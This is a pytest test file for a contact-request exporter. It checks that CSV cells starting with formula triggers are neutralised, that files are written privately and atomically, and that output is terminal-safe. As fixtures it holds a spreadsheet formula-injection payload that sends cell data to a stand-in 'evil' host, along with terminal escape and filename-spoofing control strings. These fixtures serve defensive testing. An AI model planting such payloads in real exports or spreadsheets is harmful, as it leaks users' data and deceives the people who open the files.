"""Exports: JSON as data, CSV for spreadsheets (formula triggers neutralised), private and atomic."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import stat
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from netinbox import exporters
from netinbox.exporters import CSV_COLUMNS, neutralise, write_private
from netinbox.store import Store

from .conftest import Clock, to_csv, to_json

ISO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def exported(store: Store, clock: Clock, rec) -> Store:
    a = store.add_request(
        rec("Eve Mallory", headline='=HYPERLINK("https://evil/?"&A1,"click")', company="+49 30 1234",
            message="-1+1", profile_url="https://www.linkedin.com/in/eve-mallory")
    )  # fmt: skip
    b = store.add_request(rec("Grete Sommerfeld", message="Hallo!", days_ago=2))
    store.mark_sent(a, "Why?")
    clock.advance(days=1)
    store.record_answer(a, "@everyone: because")
    store.mark_sent(b, "Warum?")
    clock.advance(days=8)
    return store


def test_json_has_every_field_as_data(exported: Store) -> None:
    items = json.loads(to_json(exported))
    assert [i["name"] for i in items] == ["Grete Sommerfeld", "Eve Mallory"]  # oldest first
    for item in items:
        assert {
            "id", "platform", "direction", "name", "headline", "company", "profile_url",
            "message", "received_at", "status", "flags", "follow_ups",
        } <= set(item)  # fmt: skip
        assert ISO.match(item["received_at"])
        for follow in item["follow_ups"]:
            assert set(follow) == {"body", "sent_at", "due_at", "answered_at", "answer"}
            assert ISO.match(follow["sent_at"]) and ISO.match(follow["due_at"])
    grete, eve = items
    assert eve["headline"] == '=HYPERLINK("https://evil/?"&A1,"click")'  # data stays unaltered
    assert eve["status"] == "answered"
    assert eve["follow_ups"][0]["answer"] == "@everyone: because"
    assert ISO.match(eve["follow_ups"][0]["answered_at"])
    assert grete["status"] == "asked" and "no_answer" in grete["flags"]
    assert grete["follow_ups"][0]["answered_at"] is None


def test_csv_for_spreadsheets(exported: Store) -> None:
    text = to_csv(exported)
    assert text.encode("utf-8")[:3] == b"\xef\xbb\xbf"
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    eve = dict(zip(CSV_COLUMNS, rows[2], strict=True))
    assert eve["headline"] == '\'=HYPERLINK("https://evil/?"&A1,"click")'
    assert eve["company"] == "'+49 30 1234"
    assert eve["message"] == "'-1+1"
    assert eve["answer"] == "'@everyone: because"
    assert eve["name"] == "Eve Mallory"
    semicolons = to_csv(exported, delimiter=";")
    assert semicolons.splitlines()[0] == "\ufeff" + ";".join(CSV_COLUMNS)


def test_csv_cells_never_start_with_a_formula_trigger(tmp_path: Path, rec) -> None:
    hostile = st.text(
        alphabet=st.one_of(st.sampled_from(list("=+-@\t\r\n'\" ,;")), st.characters()), max_size=12
    )
    with Store(tmp_path / "p.db", clock=Clock()) as store:
        serial = iter(range(1_000_000))

        @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
        @given(name=hostile, headline=hostile, company=hostile, message=hostile)
        def check(name: str, headline: str, company: str, message: str) -> None:
            record = rec(
                f"{name} {next(serial)}", headline=headline, company=company, message=message
            )
            with store.write():
                _, rid = store.upsert_request(record)
            stored = {item["id"]: item for item in exporters.iter_requests(store)}[rid]
            rows = list(csv.reader(io.StringIO(to_csv(store).removeprefix("\ufeff"), newline="")))
            for row in rows[1:]:
                for cell in row:
                    assert not cell.startswith(TRIGGERS), cell
            row = dict(zip(CSV_COLUMNS, next(r for r in rows if r[0] == str(rid)), strict=True))
            for column in ("name", "headline", "company", "message"):
                value = stored[column]
                assert row[column] == ("'" + value if value.startswith(TRIGGERS) else value)

        check()


@given(st.text(max_size=20))
def test_neutralise(value: str) -> None:
    out = neutralise(value)
    assert not out.startswith(TRIGGERS)
    assert out in (value, "'" + value)


def test_write_private_is_0600_and_atomic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "out.csv"
    old = os.umask(0)
    try:
        write_private(target, "a,b\r\n")
    finally:
        os.umask(old)
    assert target.read_bytes() == b"a,b\r\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600

    def no_space(src: object, dst: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(exporters.os, "replace", no_space)
    with pytest.raises(OSError, match="No space"):
        write_private(target, "new,content\r\n")
    assert target.read_bytes() == b"a,b\r\n"  # the old file, whole
    with pytest.raises(OSError):
        write_private(tmp_path / "fresh.csv", "x")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no partial file


def test_write_private_cleans_up_when_writing_fails(tmp_path: Path, monkeypatch) -> None:
    def broken_fsync(fd: int) -> None:
        raise OSError(errno.EIO, "I/O error")

    monkeypatch.setattr(exporters.os, "fsync", broken_fsync)
    with pytest.raises(OSError, match="I/O error"):
        write_private(tmp_path / "out.json", "[]")
    assert list(tmp_path.iterdir()) == []


def test_export_reads_one_snapshot_and_leaves_no_transaction(exported: Store) -> None:
    assert len(list(exporters.iter_requests(exported))) == 2
    assert not exported.conn.in_transaction


HOSTILE = "Eve \x1b]2;PWNED\x07 \x9b31m \u202egnp.exe\u202c \u2028 \x7f 👩\u200d💻"


def test_json_is_the_exact_data_and_safe_to_print(store: Store, rec) -> None:
    store.add_request(rec(HOSTILE, message=HOSTILE))
    text = to_json(store)
    from netinbox.text import is_display_safe

    assert all(is_display_safe(line) for line in text.split("\n"))  # nothing a terminal acts on
    (item,) = json.loads(text)
    assert item["name"] == HOSTILE.replace("\u2028", " ")  # one-line field: stored so
    assert item["message"] == HOSTILE  # and read back exactly


def test_csv_to_a_terminal_is_visible_text_and_to_a_file_exact(store: Store, rec) -> None:
    store.add_request(rec("Eve", message=HOSTILE))
    shown = io.StringIO()
    exporters.write_csv(store, shown, terminal=True)
    from netinbox.text import is_display_safe

    assert all(is_display_safe(line) for line in shown.getvalue().split("\n"))
    assert not shown.getvalue().startswith("\ufeff")
    saved = list(csv.reader(io.StringIO(to_csv(store).removeprefix("\ufeff"), newline="")))
    assert saved[1][CSV_COLUMNS.index("message")] == HOSTILE


def test_an_export_is_streamed_not_built_in_memory(store: Store, rec) -> None:
    """The writer gets the first request before the last one is read."""
    for i in range(5):
        store.add_request(rec(f"Person {i}", days_ago=10 - i))
    seen: list[str] = []

    class Out(io.StringIO):
        def write(self, text: str) -> int:
            seen.append(text)
            return super().write(text)

    items = exporters.iter_requests(store)
    first = next(items)
    assert first["name"] == "Person 0"
    items.close()  # the read transaction ends with the generator
    assert not store.conn.in_transaction
    exporters.write_json(store, Out())
    assert len(seen) > 5  # one write per request, not one for the whole array


def test_my_own_requests_say_so_and_a_withdrawal_is_withdrawn(store: Store, rec) -> None:
    """A request I sent reads as mine in both formats: its direction, `withdrawn` (never
    "declined"), the reason I followed up with apart from the follow-ups I asked with, and
    the question I owe an answer to."""
    from netinbox.models import Direction

    out = Direction.OUTGOING
    gone = store.add_request(rec("Walter Weg", direction=out, days_ago=9))
    why = store.add_request(rec("Rita Reason", direction=out, days_ago=8))
    owed = store.add_request(rec("Olga Owed", direction=out, days_ago=7, message="Hi Olga"))
    store.withdraw(gone, "wrong person")
    store.mark_reason_sent(why, "=because we met")
    store.owe_answer(owed, "-which event?", store.now(), sender="Olga")
    with store.write():  # an older store's way of saying it: a request of mine declined
        store.conn.execute("UPDATE requests SET status = 'declined' WHERE id = ?", (gone,))
    items = {item["name"]: item for item in json.loads(to_json(store))}
    assert {item["direction"] for item in items.values()} == {"outgoing"}
    assert items["Walter Weg"]["status"] == "withdrawn"
    assert items["Rita Reason"]["follow_ups"][0]["body"] == "=because we met"  # data, as is
    rows = list(csv.reader(io.StringIO(to_csv(store).removeprefix("\ufeff"), newline="")))
    csv_rows = {row[CSV_COLUMNS.index("name")]: dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]}
    walter, rita, olga = csv_rows["Walter Weg"], csv_rows["Rita Reason"], csv_rows["Olga Owed"]
    assert walter["direction"] == "outgoing" and walter["status"] == "withdrawn"
    assert walter["decision_note"] == "wrong person"
    assert ISO.match(rita["reason_sent_at"]) and not rita["asked_at"] and not rita["due_at"]
    assert olga["owed_question"] == "'-which event?" and ISO.match(olga["owed_at"])
